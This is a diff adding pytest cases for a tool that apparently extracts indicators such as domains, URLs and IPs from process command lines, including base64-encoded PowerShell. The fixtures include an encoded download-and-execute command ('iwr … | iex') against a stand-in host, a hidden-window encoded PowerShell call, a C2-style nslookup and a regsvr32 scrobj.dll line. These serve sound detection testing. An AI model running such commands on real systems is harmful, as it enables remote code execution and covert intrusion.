@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from base64 import b64encode
 from typing import Any
 from urllib.parse import urlsplit
 
@@ -80,3 +81,27 @@ def test_what_is_shown_is_defanged(text, shown):
 def test_any_text_is_read(event):
     for one in observables(event):
         assert isinstance(one.shown, str)
+
+
+def encoded(script: str) -> str:
+    return b64encode(script.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("nslookup c2.evil-site.top 8.8.8.8", {"c2.evil-site.top", "8.8.8.8"}),
+        ("ping -n 1 example.com", {"example.com"}),
+        (f"powershell -enc {encoded('iwr https://a.example.net/x.ps1 | iex')}",
+         {"https://a.example.net/x.ps1", "a.example.net"}),
+        (f"powershell -nop -w hidden -EncodedCommand \"{encoded('ping b.example.org')}\"", {"b.example.org"}),
+        (f"powershell /e {encoded('ping b.example.org')}", {"b.example.org"}),
+        ("powershell -enc !!!!notbase64!!!!", set()),
+        ("C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\csc.exe /out:a.dll", set()),
+        ("powershell (New-Object System.Net.WebClient)", set()),
+        ("more.com C:\\a\\command.com", {"more.com"}),  # a program of DOS, or a domain: nobody can tell
+        ("regsvr32 /s scrobj.dll module.tmp a.txt", set()),
+    ],
+)  # fmt: skip
+def test_command_lines_are_searched_in_the_clear_and_encoded(line, expected):
+    assert {one.value for one in observables({"process.command_line": line})} == expected
